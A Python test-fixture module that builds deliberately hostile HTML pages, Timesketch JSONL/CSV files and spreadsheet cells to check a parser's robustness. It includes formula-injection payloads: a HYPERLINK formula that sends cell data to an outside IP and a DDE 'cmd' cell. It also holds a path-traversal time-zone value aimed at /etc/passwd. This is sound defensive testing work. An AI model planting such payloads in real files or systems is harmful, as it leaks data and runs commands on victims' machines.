"""Hostile pages, Timesketch files and CSV cells (the text-side companion of ``hostile.py``).

Deterministic: each function returns ``{name: bytes}``; the same call gives the same bytes.
Families: pages that hang a quadratic scanner (unterminated ``<!--``/``<script``/``<style``),
pages deeper than libxml2's nesting limit, charsets that are no text encodings, JSON-LD and
Timesketch lines nested deeper than Python's recursion limit, Timesketch fields that are not
dates, zones, precisions or numbers, CSV fields over the csv module's 131,072 characters, and
spreadsheet formulas (:data:`FORMULAS`).
"""

from __future__ import annotations

import json

HEAD = "<html><head><title>t</title></head><body><p>Real article text before.</p>"

#: Cells a spreadsheet would run as formulas (and quotes that must survive the round trip).
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://198.51.100.7/?leak="&A1,"click")',
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0", "'=already quoted", "''=twice", "'plain quote", "-3", "=",
)


def openers_page(opener: str, n: int = 4000, size: int = 1_100_000) -> str:
    """``size`` characters of page with ``n`` unterminated ``opener``s spread through it."""
    chunk = (size - len(HEAD)) // n
    filler = "x" * (chunk - len(opener) - 1)
    return HEAD + "".join(f"{opener} {filler}" for _ in range(n))


def deep_page(depth: int = 400, tag: str = "div") -> str:
    """A page whose article text sits below ``depth`` nested elements (libxml2 stops at 255)."""
    inner = "<p>Deep article text that must not vanish silently.</p>"
    return (HEAD + f"<{tag}>" * depth + inner + f"</{tag}>" * depth
            + "<p>Text after the deep part.</p></body></html>")


def hostile_pages() -> dict[str, bytes]:
    pages = {f"openers {op}": openers_page(op).encode() for op in ("<!--", "<script", "<style")}
    for charset in ("base64", "rot13", "zlib", "hex", "uu", "punycode", "unicode_escape",
                    "utf-7", "idna"):
        pages[f"charset {charset}"] = (
            f'<html><head><meta charset="{charset}"></head><body><p>Hello there.</p>'
            "</body></html>").encode()
    pages["deep JSON-LD"] = (HEAD + '<script type="application/ld+json">' + "[" * 100_000
                             + "]" * 100_000 + "</script></body></html>").encode()
    pages["deep JSON-LD object"] = (HEAD + '<script type="application/ld+json">'
                                    + '{"a":' * 50_000 + "1" + "}" * 50_000
                                    + "</script></body></html>").encode()
    pages["deep divs"] = deep_page(400).encode()
    pages["deep spans"] = deep_page(3000, "span").encode()
    return pages


_OK = {"message": "m", "datetime": "2022-11-18T10:30:00+00:00", "timestamp_desc": "seen"}


def _jsonl(*records: dict[str, object]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in records).encode()


def hostile_timesketch() -> dict[str, bytes]:
    """``{name.jsonl|name.csv: bytes}`` of Timesketch files crafted to escape the error tree."""
    out: dict[str, bytes] = {}
    out["deep list.jsonl"] = (b'{"message": "m", "datetime": "2022-11-18", "timestamp_desc": '
                              b'"d", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n")
    out["deep object.jsonl"] = b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"\n"
    bad_fields: dict[str, dict[str, object]] = {
        "earliest": {"earliest": "not a date", "latest": "2022-11-18T10:30:00+00:00"},
        "latest": {"earliest": "2022-11-18T10:30:00+00:00", "latest": "2022-13-45"},
        "reversed": {"earliest": "2022-11-19T00:00:00+00:00",
                     "latest": "2022-11-18T00:00:00+00:00"},
        "naive range": {"earliest": "2022-11-18T00:00:00", "latest": "2022-11-19T00:00:00"},
        "precision": {"earliest": "2022-11-18T00:00:00+00:00",
                      "latest": "2022-11-19T00:00:00+00:00", "precision": "fortnight"},
        "tz": {"earliest": "2022-11-18T00:00:00+00:00", "latest": "2022-11-19T00:00:00+00:00",
               "tz": "Mars/Olympus_Mons"},
        "tz dots": {"tz": "../../../../etc/passwd"},
        "tz too long": {"earliest": "2022-11-18T00:00:00+00:00",
                        "latest": "2022-11-19T00:00:00+00:00", "tz": "Europe/" + "x" * 5000},
        "confidence": {"confidence": "very"},
        "confidence inf": {"confidence": "1e999"},
        "confidence list": {"confidence": [1, 2]},
        "confidence huge int": {"confidence": 10 ** 400},
        "datetime": {"datetime": "2022-11-18T25:61:00+00:00"},
        "datetime year 0": {"datetime": "0000-01-01T00:00:00+00:00"},
        "datetime year 9999 offset": {"datetime": "9999-12-31T23:59:59-14:00"},
        "datetime object": {"datetime": {"a": 1}},
        "message object": {"message": {"a": [1, 2]}},
        "kind number": {"kind": 5},
        "after list": {"after": ["E1", {"x": 1}]},
    }
    for name, fields in bad_fields.items():
        out[f"{name}.jsonl"] = _jsonl({**_OK, **fields})
    out["not an object.jsonl"] = b"[1, 2, 3]\n"
    out["nul.csv"] = b"message,datetime,timestamp_desc\nm\x00,2022-11-18,d\n"
    out["long field.csv"] = ("message,datetime,timestamp_desc\n" + "m" * 200_000
                             + ",2022-11-18T10:30:00+00:00,d\n").encode()
    out["ragged.csv"] = b'message,datetime,timestamp_desc\n"unterminated,2022,d\n'
    out["bad precision.csv"] = (b"message,datetime,timestamp_desc,earliest,latest,precision\n"
                                b"m,2022-11-18,d,2022-11-18T00:00:00+00:00,"
                                b"2022-11-19T00:00:00+00:00,fortnight\n")
    return out
